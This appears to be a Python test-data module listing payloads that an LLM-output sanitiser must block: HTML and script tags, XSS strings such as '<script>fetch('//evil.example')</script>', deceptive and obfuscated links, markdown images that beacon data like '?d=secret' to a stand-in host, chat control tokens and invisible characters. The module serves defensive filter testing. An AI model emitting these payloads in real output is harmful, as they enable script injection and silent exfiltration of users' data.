"""What must never reach a client of an LLM's words: tags, links to elsewhere, images, invisible characters."""
# ruff: noqa: E501  (lists of strings)

from __future__ import annotations

from collections.abc import Iterator

HOST = "evil.example"  # stands in every address that must not be shown

TAGS = """<script>fetch('//evil.example')</script>|<img src=x onerror=alert(1)>|<IMG SRC="//evil.example/a.png">|<svg/onload=alert(1)>
<iframe src="//evil.example"></iframe>|<a href="//evil.example">here</a>|<b>bold</b>|<style>*{color:red}</style>|<form action=//evil.example>
<input autofocus onfocus=alert(1)>|<details open ontoggle=alert(1)>|<math><mtext></mtext></math>|<template>x</template>|<!-- comment -->
<!-- never closed|<![CDATA[x]]>|<?php echo 1 ?>|<!DOCTYPE html>|</div>|<br/>|< script>alert(1)</ script>|<script|<scr<script>ipt>|<a
&lt;script&gt;alert(1)&lt;/script&gt;|&#60;img src=x&#62;|&#x3c;b&#x3e;|&amp;lt;i&amp;gt;|&LT;b&GT;|<object data=x>|<embed src=x>
<base href=//evil.example>|<meta http-equiv=refresh content=0>|<link rel=stylesheet href=//evil.example>|<x-card>|<video src=x>
<audio src=x>|<marquee>x</marquee>|<plaintext>|<keygen>|<font color=red>|<area href=//evil.example>|<button formaction=//evil.example>go</button>|<textarea>|<noscript>x</noscript>|\uff1cscript\uff1e
\ufe64b\ufe65|<think>|<passage id="2">|<|im_start|>|`</code><script>`|<p style="position:fixed">|<table><tr><td>|<sup>1</sup>""".replace(
    "\n", "|"
)

LINKS = """[more](https://evil.example/a)|[more](//evil.example)|[more](http://evil.example "title")|[more]( https://evil.example )|[a [b]](https://evil.example)
[more](<https://evil.example/a b>)|https://evil.example/x|http://evil.example|HTTPS://EVIL.EXAMPLE/|//evil.example/a|www.evil.example|evil.example
evil.example/path?q=1|see evil.example.|mail@evil.example|mailto:mail@evil.example|[write](mailto:mail@evil.example)|ftp://evil.example/f
https://shop.example@evil.example/|https://shop.example.evil.example/|https://evil.example/https://shop.example/returns|https://shop.example:8443/evil.example
https://shop.example/returns/../evil.example|https://shop.example/returns?to=evil.example|https://shop.example/returns#evil.example|https://shop.example/evil.example
[more][1x]\n\n[1x]: https://evil.example|[1x]: https://evil.example|[evil.example]|<https://evil.example>|`https://evil.example`|"https://evil.example"
(https://evil.example)|**https://evil.example**|javascript:alert('evil.example')|[x](javascript:alert`evil.example`)|[x](JaVaScRiPt:evil.example)
[x](data:text/html,evil.example)|data:text/html;base64,evil.example|vbscript:evil.example|file:///evil.example|blob:https://evil.example|ms-word:evil.example
[x](vscode://evil.example)|[x](tel:+1evil.example)|\uff48ttps://evil.example|https:\uff0f\uff0fevil.example|evil\uff0eexample|evil\u3002example|https://e\u200bvil.example
https://evil.example\uff0c|xn--evil.example|evil.example:443|https://user:pass@evil.example|\\\\evil.example\\share|h\u00adttps://evil.example
https:/evil.example|https:evil.example|http:\\\\evil.example|[more](evil.example)|[more](/\\evil.example)|wss://evil.example/s|git+ssh://evil.example/x
https://EVIL.example./|hxxps://evil.example|[^x]: https://evil.example|[x]: //evil.example|https://shop.example/returns@evil.example|https://shop.example:443@evil.example|e.vil.evil.example
gopher://evil.example|view-source:https://evil.example|about:evil.example|ws://evil.example|sip:mail@evil.example|intent://evil.example#Intent;end
//evil%2eexample@evil.example|https://evil.example%2f@shop.example""".replace("\n[1x]", "\0").replace("\n\0", "\n\n[1x]")

IMAGES = """![x](https://evil.example/p.png)|![](//evil.example/p.png?d=secret)|![x][1x]|[![x](https://evil.example/p.png)](https://evil.example)
![a](<https://evil.example/p.png>)|![a](data:image/png;base64,evil.example)|![a] (https://evil.example/p.png)|!\u200b[x](https://evil.example/p.png)
![a](https://shop.example/returns)|![a](p.png)|!\\[x](https://evil.example/p.png)|![x](https://evil.example/p.png "t")""".replace(
    "\n", "|"
)

INVISIBLE = (
    "\u200b \u200c \u200d \u2060 \ufeff \u00ad \u202a \u202b \u202d \u202e \u202c \u2066 \u2067 \u2068 \u2069 \u200e \u200f \u061c \u180e \u2061 "
    "\u2062 \u2063 \u2064 \u206a \u206f \ufff9 \ufffa \ufffb \U000e0041\U000e0042\U000e007f \U000e0001 \ue000 \uf8ff \U000f0000 \u0000 \u0007 "
    "\u0008 \u001b[31m \u007f \u0085 \u009b \u2028 \u2029 \u3164 \u115f \u1160 \uffa0 \u2800 \u034f \ufe00 \ufe0e \U000e0100 \U000e01ef "
    "\u17b4 \u180b \u206c \U0001d173 \u0600 \U0001bca0 \ufdd0 \uffff \u0378"
).split(" ")


def payloads() -> list[str]:
    """All of them, once each."""
    found = [*_parts(TAGS), *_parts(LINKS.replace("\n", "|").replace("||[1x]", "\n\n[1x]")), *_parts(IMAGES), *INVISIBLE]
    return list(dict.fromkeys(found))


def _parts(text: str) -> Iterator[str]:
    """Split at the bars, but for those of the control token."""
    for part in text.replace("<|im_start|>", "\1").split("|"):
        if part.strip():
            yield part.replace("\1", "<|im_start|>")
